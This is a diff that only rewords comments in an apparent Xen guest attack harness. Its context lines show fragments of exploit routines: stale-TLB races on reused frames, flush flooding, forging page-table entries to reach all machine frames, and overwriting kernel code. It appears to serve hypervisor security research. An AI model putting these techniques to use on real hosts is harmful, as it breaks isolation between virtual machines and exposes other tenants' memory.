@@ -1,4 +1,4 @@
-/* Translations that outlive what they were made for. */
+/* Translations that live longer than the mappings for which they were made. */
 #include "attack.h"
 
 static volatile u64 writes[MAX_VCPUS];
@@ -10,7 +10,7 @@ static void write_window(u32 me) {
         writes[me]++;
     }
 }
-/* Maps a frame where the other vCPUs write, and waits until each of them has. */
+/* Maps a frame where the other vCPUs write, and waits until each of them has written. */
 static int show_to_writers(u64 mfn) {
     u64 before[MAX_VCPUS], end = now() + 20000000;
     if (set_entry(pool[8], mfn << 12 | PTE_WR, UVMF_NONE)) return 0;
@@ -34,7 +34,7 @@ static int give_frame(u64 mfn) {
     return reservation(XENMEM_decrease_reservation, list, 1, 0) == 1;
 }
 
-/* The frame is unmapped without a flush, given back, taken again: is it written meanwhile? */
+/* The frame is unmapped without a flush, given back and taken again. Does somebody write to it meanwhile? */
 static void reuse(void) {
     u64 rounds = option("rounds", 300), stale = 0, reused = 0, i;
     memory_give(64);
@@ -58,7 +58,7 @@ static void reuse(void) {
 }
 void attack_stale(void) { reuse(); }
 
-/* The frame becomes a page table while others write it. */
+/* The frame becomes a page table while others write to it. */
 void attack_table(void) {
     u64 rounds = option("rounds", 300), stale = 0, pinned = 0, i;
     static u64 before[512];
@@ -87,7 +87,7 @@ void attack_table(void) {
     print("END rounds %u pinned %u stale %u\n", i, pinned, stale);
 }
 
-/* Flushes as fast as it can: for a host whose clock of flushes begins near its end. */
+/* Makes flushes as fast as it can, for a host whose clock of flushes begins near its end. */
 void attack_flush(void) {
     static struct mmuext ops[512];
     for (int i = 0; i < 512; i++) ops[i].cmd = MMUEXT_TLB_FLUSH_ALL;
@@ -98,7 +98,8 @@ void attack_flush(void) {
     reuse();
 }
 
-/* One vCPU, no race: through a stale translation it writes the entries of a page table, and so has all frames of the machine. */
+/* One vCPU, without any race: through a stale translation it writes the entries of a page table, by which it could reach all frames of the
+ * machine. */
 void attack_own(void) {
     u64 found = 0, all = option("frames", 65536);
     memory_give(64);
@@ -113,7 +114,7 @@ void attack_own(void) {
     s64 hooked = set_table(l2, slot, frame << 12 | PTE_WR | USER);
     volatile u8 *seen = (volatile u8 *)(VIRT_BASE + ((u64)slot << 21));
     print("pin %d, hook %d in slot %d\n", pinned, hooked, (s64)slot);
-    /* The writes fault once nothing is stale any more: then there is nothing to own. */
+    /* When nothing is stale any more the writes fault, and there is nothing to be had. */
     for (u64 t = 1; t < all; t++) {
         forged[0] = t << 12 | PTE_WR | USER;
         mmuext(MMUEXT_INVLPG_LOCAL, (u64)seen);
@@ -126,7 +127,7 @@ void attack_own(void) {
     print("END read %u frames, changed %u\n", all, found);
 }
 
-/* Code written anew at a kernel address: the new text must run. */
+/* New code is written at an address in the kernel, and the new code must be what runs. */
 void attack_smc(void) {
     u64 wrong = 0;
     volatile u8 *p = (volatile u8 *)pool[20];
